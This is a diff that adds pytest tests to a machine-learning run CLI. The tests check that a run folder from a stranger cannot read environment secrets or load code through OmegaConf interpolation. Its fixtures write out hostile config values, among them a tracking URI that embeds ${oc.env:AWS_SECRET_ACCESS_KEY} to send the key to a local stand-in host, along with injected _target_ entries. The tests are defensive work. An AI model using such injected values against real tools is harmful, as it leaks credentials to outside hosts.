@@ -7,12 +7,15 @@ import io
 import os
 import pickle
 import shutil
+import threading
 import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import numpy as np
 import pytest
 import torch
+from omegaconf import OmegaConf
 from torch import nn
 
 from runner import checkpoint, cli
@@ -410,6 +413,93 @@ def test_a_runs_folder_may_be_a_link_itself_and_hold_links_within(run_folder):
     (Path("moved/run/checkpoints") / "newest.pt").symlink_to("last.pt")
     Path("linked").symlink_to(Path("moved/run").absolute())
     assert cli.main(["resume", "linked", "train.num_steps=2"]) == 0
+
+
+SECRET = "s3cret-of-this-account"
+
+
+@pytest.fixture
+def requests(monkeypatch):
+    """A host that somebody else's folder names; what is asked of it, and the environment that it would like to have."""
+    asked = []
+
+    class Host(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append((self.path, dict(self.headers)))
+            self.send_error(500)
+
+        do_POST = do_GET
+
+        def log_message(self, *words):
+            pass
+
+    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
+    with ThreadingHTTPServer(("127.0.0.1", 0), Host) as host:
+        thread = threading.Thread(target=host.serve_forever)
+        thread.start()
+        asked.append(f"http://127.0.0.1:{host.server_address[1]}")
+        yield asked
+        host.shutdown()
+        thread.join()
+
+
+def rewritten(folder, **changes):
+    """The folder as somebody hands it on who has written into its rerun.yaml."""
+    node = OmegaConf.load(folder / "rerun.yaml")
+    for key, value in changes.items():
+        OmegaConf.update(node, key.replace("__", "."), value)
+    (folder / "rerun.yaml").write_text(OmegaConf.to_yaml(node))
+    return folder
+
+
+@pytest.mark.slow
+def test_a_strangers_folder_gets_neither_the_environment_nor_the_token_nor_the_run(run_folder, requests, capfd):
+    (address,) = requests
+    uri = f"{address}/p/${{oc.env:AWS_SECRET_ACCESS_KEY}}"
+    rewritten(run_folder, tracking__uri=uri, tracking__enabled=True)
+    again = ["-cd", str(run_folder), "-cn", "rerun", "hydra.run.dir=again"]
+    for words in (["resume", str(run_folder), "train.num_steps=2"], again, ["reproduce", str(run_folder)]):
+        said = refused(words, capfd, says="was not made here by you")
+        assert "tracking.uri=sqlite:///mlflow.db for the usual one" in said and "--trust" in said
+    for words in (["sync", str(run_folder)], ["ui"], ["register", str(run_folder), "--name", "mine"]):
+        refused(words, capfd, says="was not made here by you")
+    assert not Path("again").exists() and not list(Path().glob("*.db"))
+    assert cli.main(["resume", str(run_folder), "train.num_steps=2", "tracking.uri=sqlite:///mlflow.db"]) == 0
+    assert requests == [address] and Path("mlflow.db").is_file()
+    assert SECRET not in "".join(capfd.readouterr())
+    assert not [file for file in Path().rglob("*") if file.is_file() and SECRET.encode() in file.read_bytes()]
+    assert cli.main(["resume", str(run_folder), "train.num_steps=2"]) == 0  # it is one's own by now
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"name": "${oc.env:AWS_SECRET_ACCESS_KEY}"},
+        {"data__name": "a ${oc.env:HOME} b"},
+        {"model___target_": "mine.f"},
+    ],
+)
+def test_a_strangers_folder_reads_no_environment_and_names_no_code_of_the_current_folder(run_folder, capfd, change):
+    rewritten(run_folder, **change)
+    for words in (["resume", str(run_folder)], ["-cd", str(run_folder), "-cn", "rerun"], ["evaluate", str(run_folder)]):
+        refused(words, capfd, says="--trust, when you have looked at")
+
+
+def test_a_strangers_model_takes_nothing_of_the_environment(run_folder, capfd):
+    card = run_folder / "model.json"
+    card.write_text(card.read_text().replace('"synthetic"', '"<oc.env:HOME>"'))
+    refused(["export", str(run_folder), "--format", "safetensors"], capfd, says="may not read what lies outside it")
+
+
+def test_a_folder_that_was_looked_at_is_ones_own(run_folder, capfd, monkeypatch):
+    monkeypatch.setenv("NAME", "of-the-environment")
+    rewritten(run_folder, name="${oc.env:NAME}")
+    words = ["-cd", str(run_folder), "-cn", "rerun", "hydra.run.dir=again"]
+    refused(words, capfd, says="--trust")
+    assert cli.main([*words, "--trust"]) == 0
+    assert cli.main(["-cd", "again", "-cn", "rerun", "hydra.run.dir=and_again"]) == 0  # made here
 
 
 ARTIFACTS = {
